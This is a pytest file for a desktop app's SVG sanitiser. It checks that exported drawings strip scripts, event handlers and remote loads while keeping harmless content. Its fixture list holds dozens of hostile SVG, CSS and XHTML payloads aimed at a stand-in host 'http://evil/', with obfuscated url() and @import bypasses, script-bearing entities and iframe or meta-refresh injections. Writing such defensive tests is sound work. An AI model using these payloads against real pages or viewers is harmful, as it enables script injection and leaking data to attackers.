"""Drawings of a model as files, for a browser and for other programs."""

from pathlib import Path
from xml.etree import ElementTree as ET

import pytest

import dev
from qhub_desktop.charts.svg_file import inert_drawing
from qhub_desktop.core.errors import UserError

WRITTEN = dev.ROOT / "tests" / "ui_artifacts" / "written"
SVG, XHTML = "http://www.w3.org/2000/svg", "http://www.w3.org/1999/xhtml"
LIVELY = [
    "<script>fetch('http://evil/')</script>",
    "<script href='http://evil/'/>",
    f"<script xmlns='{XHTML}' src='http://evil/'/>",
    "<rect onload='evil()'/>",
    "<rect onLoad='evil()' ONCLICK='evil()'/>",
    "<image href='http://evil/'/>",
    "<image xlink:href='//evil/'/>",
    "<image href=' http://evil/'/>",
    "<image href='data:image/svg+xml,&lt;svg onload=&quot;evil()&quot;/>'/>",
    "<use href='http://evil/#a'/>",
    "<use href='evil.svg#a'/>",
    "<g xml:base='http://evil/'><use href='#a'/></g>",
    "<a href='http://evil/'><text>x</text></a>",
    "<a xlink:href='javascript:evil()'><text>x</text></a>",
    "<style>@import 'http://evil/';</style>",
    "<style>rect { fill: url(http://evil/#a) }</style>",
    "<style>rect { fill: u\\72l(http://evil/#a) }</style>",
    "<style>rect { background: image-set('http://evil/' 1x) }</style>",
    "<style>a<g/>@import 'http://evil/';</style>",
    "<style><![CDATA[@import 'http://evil/';]]></style>",
    "<style>@font-face { font-family: x; src: URL( 'http://evil/' ) }</style>",
    "<rect style='fill: url(//evil/#a)'/>",
    "<rect fill='url(http://evil/#a)'/>",
    "<rect filter='url( &quot;http://evil/#a&quot; )'/>",
    "<rect><set attributeName='href' to='http://evil/'/></rect>",
    "<image><animate attributeName='xlink:href' values='http://evil/'/></image>",
    "<rect><animate attributeName='fill' to='url(http://evil/#a)'/></rect>",
    "<filter><feImage href='http://evil/'/></filter>",
    f"<foreignObject><iframe xmlns='{XHTML}' src='http://evil/'/></foreignObject>",
    f"<foreignObject><p xmlns='{XHTML}'><img src='http://evil/'/></p></foreignObject>",
    f"<foreignObject><p xmlns='{XHTML}' style='background: url(http://evil/)'>x</p></foreignObject>",
    f"<foreignObject><link xmlns='{XHTML}' rel='preconnect' href='http://evil/'/></foreignObject>",
    f"<foreignObject><meta xmlns='{XHTML}' http-equiv='refresh' content='0;http://evil/'/></foreignObject>",
    f"<h:iframe xmlns:h='{XHTML}' src='http://evil/'/>",
    "<x:script xmlns:x='http://www.w3.org/2000/svg'>evil()</x:script>",
    "<handler xmlns='http://www.w3.org/2001/xml-events'>evil()</handler>",
    "<cursor href='http://evil/'/><tref href='http://evil/'/><metadata>evil</metadata>",
    "<SCRIPT>evil()</SCRIPT>",
]


@pytest.mark.parametrize("lively", LIVELY)
def test_a_drawing_as_a_file_loads_and_runs_nothing(lively: str) -> None:
    drawing = inert_drawing(f"<svg viewBox='0 0 9 9'>{lively}<text>stays</text></svg>")

    assert b"evil" not in drawing.content
    assert not drawing.is_whole
    root = ET.fromstring(drawing.content)
    assert root.findtext(f"{{{SVG}}}text") in ("stays", "x")
    assert "stays" in "".join(root.itertext())


def test_what_stands_before_a_drawing_is_left_out() -> None:
    before = "<?xml version='1.0'?><?xml-stylesheet href='http://evil/'?>"
    before += "<!DOCTYPE svg SYSTEM 'http://evil/' [<!ENTITY e '&#60;script>evil()&#60;/script>'>]>"

    drawing = inert_drawing(f"{before}<svg xmlns='{SVG}'><text>a&e;b</text></svg>")

    assert b"evil" not in drawing.content
    assert "".join(ET.fromstring(drawing.content).itertext()) == "a&e;b"


@pytest.mark.parametrize("file", sorted(WRITTEN.glob("*.svg")), ids=lambda file: file.stem)
def test_a_drawing_that_only_draws_is_kept_as_it_is(file: Path) -> None:
    source = file.read_text(encoding="utf-8")

    drawing = inert_drawing(source)

    assert drawing.is_whole
    same = [ET.canonicalize(each, strip_text=True) for each in (source, drawing.content)]
    assert same[0] == same[1].replace(' xmlns:xlink="http://www.w3.org/1999/xlink"', "")


def test_what_draws_is_kept_with_its_links_within_and_its_pictures() -> None:
    parts = (
        "<defs><linearGradient id='g'/></defs><filter id='f'><feGaussianBlur/></filter>",
        "<style>rect { fill: url(#g); filter: url('#f') }</style>",
        "<use xlink:href='#g'/><image href='data:image/png;base64,iVBORw0KGgo='/>",
        "<rect fill='url(#g)'><animate attributeName='width' from='1' to='9' dur='1s'/></rect>",
        "<text>Peça&nbsp;n.&ordm; 2 &amp; <tspan>3</tspan> fim</text>",
        f"<foreignObject><p xmlns='{XHTML}' style='color: red'>a<br/>b</p></foreignObject>",
    )

    drawing = inert_drawing(f"<svg viewBox='0 0 9 9'>{''.join(parts)}</svg>")

    assert drawing.is_whole
    root = ET.fromstring(drawing.content)
    assert {each.tag.rpartition("}")[2] for each in root.iter()} >= {"use", "image", "animate", "p"}
    assert root.findtext(f"{{{SVG}}}text") == "Peça\xa0n.º 2 & "


@pytest.mark.parametrize("source", ["<svg><rect></svg>", "", "only text"])
def test_what_no_other_program_could_open_is_refused_with_another_way(source: str) -> None:
    with pytest.raises(UserError, match="PNG or HTML"):
        inert_drawing(source)


def test_a_drawing_of_endless_depth_is_cut_and_said() -> None:
    drawing = inert_drawing("<svg>" + "<g>" * 50_000 + "</g>" * 50_000 + "</svg>")

    assert not drawing.is_whole
    assert len(drawing.content) < 5_000
